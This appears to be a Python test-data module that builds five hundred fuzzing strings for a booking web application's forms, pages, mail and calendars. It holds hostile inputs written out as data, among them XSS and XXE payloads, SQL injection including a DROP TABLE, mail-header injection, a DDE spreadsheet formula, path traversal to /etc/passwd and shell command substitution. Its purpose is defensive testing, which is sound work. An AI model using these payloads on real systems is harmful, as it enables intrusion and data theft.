"""Five hundred strings that have broken forms, pages, mails and calendars elsewhere, made of two hundred."""

from __future__ import annotations

from itertools import product

SCRIPTS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<b onclick=alert(1)>fett</b>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "]]><x/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{% load i18n %}{% csrf_token %}",
    "{{ settings.SECRET_KEY }}",
    "%(name)s",
    "%s%s%s%n",
    "{0.__class__}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{name}",
]
QUERIES = [
    "' OR '1'='1",
    "'; DROP TABLE booking_booking; --",
    "1; SELECT pg_sleep(5)",
    "\\'; --",
    "%' OR 1=1 --",
    "0 UNION SELECT 1",
    "$$",
    '{"$gt": ""}',
]
HEADERS = [
    "a@example.org\r\nBcc: b@example.org",
    "a\nSubject: b",
    "a\r\n\r\nbody",
    "a%0d%0aBcc:b@example.org",
    "BEGIN:VEVENT\r\nEND:VEVENT",
    "x\nATTENDEE:mailto:b@example.org",
    'x;CN="y":mailto:b@example.org',
    "=?utf-8?q?=0d=0aBcc:_b@example.org?=",
    "a,b@example.org;c@example.org",
    '"a\\"b"@example.org',
]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "=cmd|'/c calc'!A0", '=HYPERLINK("//evil.example")']
PATHS = [
    "../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "file:///etc/passwd",
    "//evil.example",
    "C:\\x",
    "~",
    ".",
]
NUMBERS = [
    "0", "-1", "00", "1e308", "1e999", "NaN", "Infinity", "-Infinity", "0x7f", "1_000", "1,5", "1.5", "١٢٣",
    "９", "²", "Ⅷ", str(2**31), str(2**32), str(2**63 - 1), str(2**63), str(2**64), "-" + str(2**63), "9" * 400,
    "9" * 5000, "1" + "0" * 40, "+1", " 1 ", "1\x00",
]  # fmt: skip
DATES = [
    "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-2026-01-01", "2026-1-1",
    "20261124", "2026-W48-2", "2026-11-24T14:00", "24.11.2026", "heute", "２０２６-11-24", "2026-11-24\x00",
    "2026-11-24' --",
]  # fmt: skip
SIGNS = [
    chr(n) for n in (*range(32), 0x7F, 0x80, 0x85, 0xA0, 0xAD, 0x200B, 0x200E, 0x202E, 0x2028, 0x2029, 0x2066)
]
SIGNS += [chr(n) for n in (0xFEFF, 0xFFFD, 0xFFFE, 0xFFFF, 0xE000, 0xE0001, 0x1F4A9, 0x10FFFF)]
TEXTS = [
    "", " ", "\u3000", "x" * 79, "x" * 81, "x" * 10_000, "ä" * 254, "😀" * 200, "Z" + "\u0301" * 300, "﷽" * 50,
    "null", "None", "undefined", "true", "[]", "{}", "[object Object]", "\\", "\\\\", "\\u0000", "\\ud800",
    "%00", "%ff", "%u0041", "&#0;", "&#x110000;", "مرحبا", "שלום", "Ω≈ç√∫", "田中さん", "A\u202eB", "ﬀ", "İ", "ß",
    "i̇", "--", "/* */", "<!-- -->", "#", "?", "&", "&amp;", "a=b&c=d", ";", "|", "`id`", "$(id)", "$IFS",
    "() { :; }",
]  # fmt: skip
AROUND = ["{}", "Amira {}", "{} Yılmaz", "a{}b"]

SEEDS = [*SCRIPTS, *TEMPLATES, *QUERIES, *HEADERS, *FORMULAS, *PATHS, *NUMBERS, *DATES, *TEXTS, *SIGNS]
# Each kind of attack once, for whole pages: what stands around it makes a difference to forms alone.
BARE = list(dict.fromkeys(SEEDS))
STRINGS = list(dict.fromkeys(around.replace("{}", seed) for around, seed in product(AROUND, SEEDS)))[:500]
